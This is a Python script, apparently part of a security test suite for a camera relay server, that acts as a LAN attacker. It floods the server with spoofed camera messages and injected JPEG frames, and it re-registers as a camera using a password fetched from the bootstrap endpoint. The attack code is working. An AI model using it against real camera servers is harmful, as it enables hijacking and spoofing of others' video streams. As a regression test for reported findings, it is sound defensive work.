#!/usr/bin/env python3
"""A LAN attacker trying to take over a camera's video (issue 9, finding 1).

    attacker.py BIND_IP SERVER_IP PORT UID SECONDS JPEG
    attacker.py register BIND_IP SERVER_IP BOOT_PORT CAM_PORT UID SECONDS

From BIND_IP (another host's address, e.g. 127.0.0.2), for SECONDS: spam
the server's camera UDP port with {"code":20}, {"code":51,"devTarget":UID}
and its own JPEG frames (JPEG with an "attacker frame N" COM segment, one
datagram each, cmd 1, msg_flag 255, size trailer), every 2 ms; answer any
code 50 with a 51 as the camera would.  At the end (or on SIGTERM) print one JSON line:
what it sent and what the server sent back (by cmd / JSON code), and the
sha256 of every frame it sent, so a test can tell its frames apart.

register (issue 17, finding 3): for SECONDS, from BIND_IP, again and
again: fetch the bootstrap answer for UID (getA9ConfCheck, as a camera
does), open TCP to CAM_PORT, register with the pwd it got, send a
heartbeat every 0.2 s; when closed, start over 0.1 s later.  At the end
(or on SIGTERM) one JSON line: how many registrations it sent, each
code 101 status it got, every other JSON code the server sent it (code 11
would make it the camera's media peer) and the pwds it was handed.
"""
import http.client
import hashlib
import json
import signal
import socket
import struct
import sys
import time


def hdr(length, cmd, flag=0, pkg=0):
    return struct.pack("<IHBB8sI", length, cmd, flag, 0, b"\0" * 8, pkg)


def msg(cmd, payload, flag=0, pkg=0):
    return hdr(len(payload), cmd, flag, pkg) + payload


def register(argv):
    bind_ip, srv_ip, boot_port, cam_port, uid, secs = argv
    boot_port, cam_port, secs = int(boot_port), int(cam_port), float(secs)
    r = {"registers": 0, "status": {}, "got": {}, "pwds": []}
    end = time.monotonic() + secs
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
    try:
        while time.monotonic() < end:
            try:
                register_once(bind_ip, srv_ip, boot_port, cam_port, uid,
                              end, r)
            except (OSError, ValueError, KeyError, http.client.HTTPException):
                pass
            time.sleep(0.1)
    finally:
        print(json.dumps(r), flush=True)


def register_once(bind_ip, srv_ip, boot_port, cam_port, uid, end, r):
    h = http.client.HTTPConnection(srv_ip, boot_port, timeout=5,
                                   source_address=(bind_ip, 0))
    h.request("POST", "/app/api/ApiServer/getA9ConfCheck?devicesCode=%s"
              "&random=ATTACK&token=0000000000" % uid,
              headers={"version": "202212011602"})
    ans = json.loads(h.getresponse().read())
    h.close()
    pwd = ans["data"]["pwd"]
    if pwd not in r["pwds"]:
        r["pwds"].append(pwd)
    s = socket.create_connection((srv_ip, cam_port), timeout=5,
                                 source_address=(bind_ip, 0))
    s.settimeout(0.2)
    s.sendall(msg(0, json.dumps({"code": 100, "uid": uid, "token": pwd,
                                 "domain": "v720.naxclow.com"}).encode()))
    r["registers"] += 1
    buf = b""
    try:
        while time.monotonic() < end:
            try:
                d = s.recv(65536)
            except socket.timeout:
                s.sendall(hdr(0, 100))
                continue
            if not d:
                return
            buf += d
            while len(buf) >= 20:
                n, cmd = struct.unpack_from("<IH", buf, 0)
                if len(buf) < 20 + n:
                    break
                body, buf = buf[20:20 + n], buf[20 + n:]
                if cmd != 0:
                    continue
                j = json.loads(body)
                if j.get("code") == 101:
                    st = str(j.get("status"))
                    r["status"][st] = r["status"].get(st, 0) + 1
                else:
                    k = "code%s" % j.get("code")
                    r["got"][k] = r["got"].get(k, 0) + 1
    finally:
        s.close()


def main():
    if sys.argv[1] == "register":
        register(sys.argv[2:9])
        return
    bind_ip, srv_ip, port, uid, secs, jpeg_path = sys.argv[1:7]
    port, secs = int(port), float(secs)
    base = open(jpeg_path, "rb").read()
    assert base[:2] == b"\xff\xd8"
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind((bind_ip, 0))
    s.setblocking(False)
    dst = (srv_ip, port)
    j20 = msg(0, b'{"code":20}')
    j51 = msg(0, json.dumps({"code": 51, "devTarget": uid,
                             "status": 200}).encode())
    sent = {"20": 0, "51": 0, "frames": 0}
    got = {}
    shas = set()
    end = time.monotonic() + secs
    signal.signal(signal.SIGTERM, lambda *a: sys.exit(0))
    try:
        spam(s, dst, base, j20, j51, sent, got, shas, end)
    finally:
        print(json.dumps({"sent": sent, "got": got,
                          "sha256": sorted(shas)}), flush=True)


def spam(s, dst, base, j20, j51, sent, got, shas, end):
    pkg = 7000000
    n = 0
    while time.monotonic() < end:
        n += 1
        com = b"attacker frame %d" % n
        frame = base[:2] + b"\xff\xfe" + struct.pack(">H", len(com) + 2) + \
            com + base[2:]
        shas.add(hashlib.sha256(frame).hexdigest())
        try:
            s.sendto(j20, dst)
            s.sendto(j51, dst)
            s.sendto(msg(1, frame + struct.pack("<I", len(frame)), 255,
                         pkg), dst)
            sent["20"] += 1
            sent["51"] += 1
            sent["frames"] += 1
        except (BlockingIOError, ConnectionRefusedError):
            pass
        pkg += 1
        while True:
            try:
                d, _ = s.recvfrom(4096)
            except (BlockingIOError, ConnectionRefusedError):
                break
            if len(d) < 20:
                continue
            cmd = struct.unpack_from("<H", d, 4)[0]
            key = "cmd%d" % cmd
            if cmd == 0:
                try:
                    key = "code%d" % json.loads(d[20:])["code"]
                except (ValueError, KeyError, TypeError):
                    pass
            got[key] = got.get(key, 0) + 1
            if key == "code50":
                s.sendto(j51, dst)
        time.sleep(0.002)


if __name__ == "__main__":
    main()
